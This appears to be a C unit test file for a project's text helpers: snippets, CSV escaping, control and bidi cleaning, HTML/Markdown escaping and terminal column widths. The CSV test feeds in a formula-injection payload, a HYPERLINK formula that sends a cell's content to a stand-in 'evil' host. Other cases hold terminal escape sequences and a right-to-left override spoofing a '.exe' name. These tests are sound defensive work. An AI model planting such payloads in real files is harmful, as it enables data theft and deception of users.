/* test_text.c - string helpers. */
#define _XOPEN_SOURCE 700 /* wcwidth, the reference for cw_text_width */
#include <criterion/criterion.h>
#include <locale.h>
#include <stdlib.h>
#include <string.h>
#include <wchar.h>

#include "causeway/util/text.h"

Test(text, printf_allocates_the_exact_string)
{
    char *s = cw_text_printf("%s-%d", "week", 46);
    cr_assert_str_eq(s, "week-46");
    free(s);
}

Test(text, snippet_cuts_at_word_boundaries_with_ellipses)
{
    const char *t = "I ordered a lamp and they sent me someone else's order instead, again.";
    const char *hit = strstr(t, "someone else's order");
    size_t start = (size_t)(hit - t), end = start + strlen("someone else's order");
    char buf[128];
    cw_text_snippet(buf, sizeof(buf), t, strlen(t), start, end, 12);
    cr_assert_str_eq(buf, "...sent me someone else's order instead,...");
}

Test(text, snippet_keeps_utf8_whole_and_flattens_control_characters)
{
    const char *t = "caf\xc3\xa9\xc3\xa9\xc3\xa9\nrude staff\t\xe2\x80\x99ok";
    const char *hit = strstr(t, "rude");
    size_t start = (size_t)(hit - t);
    char buf[64];
    cw_text_snippet(buf, sizeof(buf), t, strlen(t), start, start + 4, 100);
    cr_assert_str_eq(buf, "caf\xc3\xa9\xc3\xa9\xc3\xa9 rude staff \xe2\x80\x99ok");
    /* A tiny buffer must not end inside a multi-byte character. */
    char small[6];
    cw_text_snippet(small, sizeof(small), t, strlen(t), 0, 9, 0);
    cr_assert_str_eq(small, "caf\xc3\xa9"); /* the whole e-acute fits */
    char smaller[5];
    cw_text_snippet(smaller, sizeof(smaller), t, strlen(t), 0, 9, 0);
    cr_assert_str_eq(smaller, "caf"); /* half of it would not be valid UTF-8 */
}

Test(text, snippet_tolerates_out_of_range_spans)
{
    char buf[16];
    cw_text_snippet(buf, sizeof(buf), "abc", 3, 5, 9, 4);
    cr_assert_str_eq(buf, "abc");
}

/* What a writer printed into a memory stream (caller frees). */
static char *written(void (*fn)(FILE *, const char *), const char *s)
{
    char *buf = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&buf, &len);
    cr_assert_not_null(f);
    fn(f, s);
    cr_assert_eq(fclose(f), 0);
    return buf;
}

/* Issue 17 item 2: the OWASP rule on every cell that starts like a formula. */
Test(text, csv_cells_that_start_like_a_formula_are_shown_as_text)
{
    static const struct {
        const char *in, *out;
    } cases[] = {
        {"=1+1", "\"'=1+1\""},
        {"=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
         "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\""},
        {"+1", "\"'+1\""},
        {"-2+3", "\"'-2+3\""},
        {"@evil", "\"'@evil\""},
        {"\tleading tab", "\"' leading tab\""},
        {"\rcarriage", "\"'\rcarriage\""},
        {"plain", "plain"},
        {"a=b", "a=b"},
        {"", ""},
        {"with, comma", "\"with, comma\""},
        {"two\nlines", "\"two\nlines\""},
        {"esc\x1b[2J", "esc [2J"},
        {"rlo\xe2\x80\xae", "rlo\xef\xbf\xbd"},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char *got = written(cw_text_csv_field, cases[i].in);
        cr_assert_str_eq(got, cases[i].out, "case %zu", i);
        free(got);
    }
}

/* Issue 17 item 3: controls, C1 controls and bidi overrides never reach a reader raw. */
Test(text, clean_text_has_no_controls_and_no_bidi_overrides)
{
    static const struct {
        const char *in, *plain;
    } cases[] = {
        {"\x1b[2J\x1b[31mred", " [2J [31mred"},
        {"bell\x07", "bell "},
        {"line\nbreak", "line break"},
        {"csi\xc2\x9b"
         "2J",
         "csi 2J"},
        {"\xe2\x80\xae"
         "txt.exe",
         "\xef\xbf\xbdtxt.exe"},
        {"iso\xe2\x81\xa6x\xe2\x81\xa9", "iso\xef\xbf\xbdx\xef\xbf\xbd"},
        {"rlm\xe2\x80\x8f", "rlm\xef\xbf\xbd"},
        {"sep\xe2\x80\xa8", "sep "},
        {"bad\xff", "bad\xef\xbf\xbd"},
        {"caf\xc3\xa9 \xf0\x9f\x98\x80", "caf\xc3\xa9 \xf0\x9f\x98\x80"},
        {"<b>&\"'", "<b>&\"'"},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char *plain = written(cw_text_write_clean, cases[i].in);
        cr_assert_str_eq(plain, cases[i].plain, "case %zu", i);
        char buf[64];
        cr_assert_str_eq(cw_text_clean(buf, sizeof(buf), cases[i].in, strlen(cases[i].in)),
                         cases[i].plain, "case %zu", i);
        free(plain);
    }
}

static void write_html(FILE *out, const char *s)
{
    cw_text_write_escaped(out, s, cw_text_html_escape);
}

static void write_markdown(FILE *out, const char *s)
{
    cw_text_write_escaped(out, s, cw_text_markdown_escape);
}

Test(text, html_and_markdown_escape_after_cleaning)
{
    char *html = written(write_html, "<script>\x1b&\"x\"'\xe2\x80\xae");
    cr_assert_str_eq(html, "&lt;script&gt; &amp;&quot;x&quot;&#39;\xef\xbf\xbd");
    char *md = written(write_markdown, "*a*|_b_`c`[d](e)<f>#\\\n");
    cr_assert_str_eq(md, "\\*a\\*\\|\\_b\\_\\`c\\`\\[d\\](e)\\<f\\>\\#\\\\ ");
    free(html);
    free(md);
}

/* Issue 17 item 4: the width of text on a terminal, as the C library's wcwidth says. */
Test(text, width_counts_terminal_columns_as_wcwidth_does)
{
    static const char *const samples[] = {
        "abc",
        "caf\xc3\xa9",                              /* precomposed e-acute */
        "cafe\xcc\x81",                             /* e + combining acute */
        "\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e",     /* CJK */
        "\xed\x95\x9c\xea\xb5\xad",                 /* Hangul */
        "\xef\xbc\xa1\xef\xbc\xa2",                 /* fullwidth A B */
        "\xf0\x9f\x98\x80\xf0\x9f\x9a\x80",         /* emoji */
        "\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d",         /* Hebrew */
        "\xd9\x85\xd8\xb1\xd8\xad\xd8\xa8\xd8\xa7", /* Arabic */
        "\xe0\xb8\x81\xe0\xb8\xb1",                 /* Thai + combining vowel */
        "\xe2\x80\x8bzero\xe2\x80\x8bwidth",        /* zero-width space */
        "\xc3\xb1\xe2\x82\xac\xe2\x80\x99",         /* n-tilde, euro, quote */
        "\xf0\xa0\x80\x80",                         /* CJK extension B */
    };
    if (setlocale(LC_CTYPE, "C.UTF-8") == NULL)
        cr_skip_test("no C.UTF-8 locale to compare with");
    for (size_t i = 0; i < sizeof(samples) / sizeof(samples[0]); i++) {
        wchar_t wide[64];
        size_t n = mbstowcs(wide, samples[i], 64);
        cr_assert_neq(n, (size_t)-1, "sample %zu", i);
        int want = wcswidth(wide, n);
        cr_assert_eq(cw_text_width(samples[i]), (size_t)want, "sample %zu: %zu, wcwidth %d", i,
                     cw_text_width(samples[i]), want);
    }
}

static char *cell(const char *s, size_t width, bool right)
{
    char *buf = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&buf, &len);
    cr_assert_not_null(f);
    cw_text_write_cell(f, s, width, right);
    cr_assert_eq(fclose(f), 0);
    return buf;
}

Test(text, cells_are_cut_and_padded_by_display_width_never_inside_a_character)
{
    static const struct {
        const char *in;
        size_t width;
        bool right;
        const char *out;
    } cases[] = {
        {"leeds", 8, false, "leeds   "},
        {"leeds", 8, true, "   leeds"},
        {"caf\xc3\xa9", 6, false, "caf\xc3\xa9  "},
        {"\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e", 7, false, "\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e "},
        {"\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e\xe6\x97\xa5", 7, false,
         "\xe6\x97\xa5\xe6\x9c\xac..."},
        {"\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e\xe6\x97\xa5", 6, false, "\xe6\x97\xa5... "},
        {"\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9\xc3\xa9", 4, false, "\xc3\xa9..."},
        {"a\x1b[2Jb", 8, false, "a [2Jb  "},
        {"abcdef", 2, false, ".."},
        {"\xf0\x9f\x98\x80\xf0\x9f\x98\x80\xf0\x9f\x98\x80", 5, false, "\xf0\x9f\x98\x80..."},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char *got = cell(cases[i].in, cases[i].width, cases[i].right);
        cr_assert_str_eq(got, cases[i].out, "case %zu: '%s'", i, got);
        free(got);
    }
}
